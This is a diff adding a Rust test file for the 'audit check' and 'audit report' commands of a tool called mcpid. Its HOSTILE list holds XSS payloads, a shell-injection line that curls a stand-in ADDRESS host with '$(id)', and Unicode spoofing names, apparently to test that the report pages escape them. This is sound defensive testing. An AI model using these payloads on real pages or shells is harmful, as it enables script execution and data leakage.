@@ -1,0 +1,132 @@
+//! The pages of `audit check` and `audit report`, and the events of `audit show`.
+#![allow(clippy::unwrap_used)]
+
+mod browser;
+mod files;
+#[path = "../audit/fixtures.rs"]
+#[allow(dead_code)]
+mod fixtures;
+mod ocsf;
+#[path = "../gateway_report/page_server.rs"]
+mod page_server;
+mod texts;
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use fixtures::{START, Scene, call, key};
+use mcpid::audit::{Recorder, Settings, proof};
+use mcpid::clock::Clock as _;
+use mcpid::key::Sign as _;
+use mcpid::profile::Profile;
+use serde_json::json;
+use tempfile::TempDir;
+
+/// Names that try to be more than names. `ADDRESS` is a server that notes what it is asked for.
+const HOSTILE: &[&str] = &[
+    "<script>document.title='pwned'</script>",
+    "<img src=http://ADDRESS/img onerror=\"document.title='pwned'\">",
+    "</title></style></pre><iframe src=http://ADDRESS/frame></iframe>",
+    "--><link rel=stylesheet href=http://ADDRESS/link><!--",
+    "'; curl http://ADDRESS/$(id) #`id`",
+    "evil\u{202e}gnp.exe\u{2066}zero\u{200b}width",
+    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}algo",
+    "שם עברי",
+];
+
+/// A folder with a log, the trust file of its auditor, and the evidence of each entry.
+struct World {
+    folder: TempDir,
+    log_key: String,
+}
+
+impl World {
+    /// Entries that ask for tools of these names, signed by keys whose names are `names`.
+    fn new(tools: &[String], name: &str) -> Self {
+        let folder = TempDir::new().unwrap();
+        let scene = Scene::at(folder.path().join("log"), fixtures::NAME);
+        let recorder = Recorder::new(scene.open());
+        for tool in tools {
+            scene.clock.forward(1);
+            let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
+                "params": {"name": tool}});
+            let at = scene.clock.now().unix();
+            scene.record(&recorder, &call(1, at, &body.to_string(), &[])).unwrap();
+        }
+        drop(recorder);
+        let x = URL_SAFE_NO_PAD.encode(key(1).public().as_bytes());
+        let trust = json!({"keys": [
+            {"kty": "OKP", "crv": "Ed25519", "x": x, "mcpid": {"name": name}}]});
+        std::fs::write(folder.path().join("trust.json"), trust.to_string()).unwrap();
+        for n in 0..tools.len() as u64 {
+            let evidence = proof::prove(&scene.files(), n, None).unwrap();
+            std::fs::write(folder.path().join(format!("evidence-{n}.json")), evidence).unwrap();
+        }
+        std::fs::write(folder.path().join("kept"), scene.checkpoint()).unwrap();
+        World { folder, log_key: scene.log_key.to_string() }
+    }
+
+    /// One honest entry.
+    fn honest() -> Self {
+        World::new(&["pay".to_owned()], "alice")
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.folder.path().join(name)
+    }
+
+    fn run(&self, arguments: &[&str]) -> Output {
+        mcpid(self.folder.path(), arguments)
+    }
+
+    /// `audit check` of evidence `n`, with more arguments.
+    fn check(&self, n: usize, more: &[&str]) -> Output {
+        let file = format!("evidence-{n}.json");
+        let mut arguments = vec!["audit", "check", "--log-key", &self.log_key];
+        arguments.extend_from_slice(more);
+        arguments.push(&file);
+        self.run(&arguments)
+    }
+
+    /// `audit report` of the log, with more arguments.
+    fn report(&self, more: &[&str]) -> Output {
+        let mut arguments = vec!["audit", "report", "--audit", "log", "--log-key", &self.log_key];
+        arguments.extend_from_slice(more);
+        self.run(&arguments)
+    }
+
+    fn read(&self, name: &str) -> String {
+        std::fs::read_to_string(self.path(name)).unwrap()
+    }
+}
+
+fn mcpid(folder: &Path, arguments: &[&str]) -> Output {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_mcpid"));
+    command.args(arguments).current_dir(folder).env("HOME", folder).output().unwrap()
+}
+
+#[track_caller]
+fn stdout(output: &Output, code: i32) -> String {
+    assert_eq!(output.status.code(), Some(code), "{output:?}");
+    String::from_utf8(output.stdout.clone()).unwrap()
+}
+
+/// Another log, whose rules are laxer than their profile.
+fn lax_world() -> World {
+    let folder = TempDir::new().unwrap();
+    let scene = Scene::at(folder.path().join("log"), fixtures::NAME);
+    let recorder = Recorder::new(scene.try_open(Settings::default()).unwrap());
+    let mut profile = Profile::mcp();
+    profile.window.back = Some(86_400);
+    scene
+        .record_by(&recorder, &call(1, START, &fixtures::body(1), &[]), &scene.verifier_by(profile))
+        .unwrap();
+    drop(recorder);
+    let evidence = proof::prove(&scene.files(), 0, None).unwrap();
+    std::fs::write(folder.path().join("evidence-0.json"), evidence).unwrap();
+    let trust = json!({"keys": [fixtures::entry(1, json!({}))]});
+    std::fs::write(folder.path().join("trust.json"), trust.to_string()).unwrap();
+    World { folder, log_key: scene.log_key.to_string() }
+}
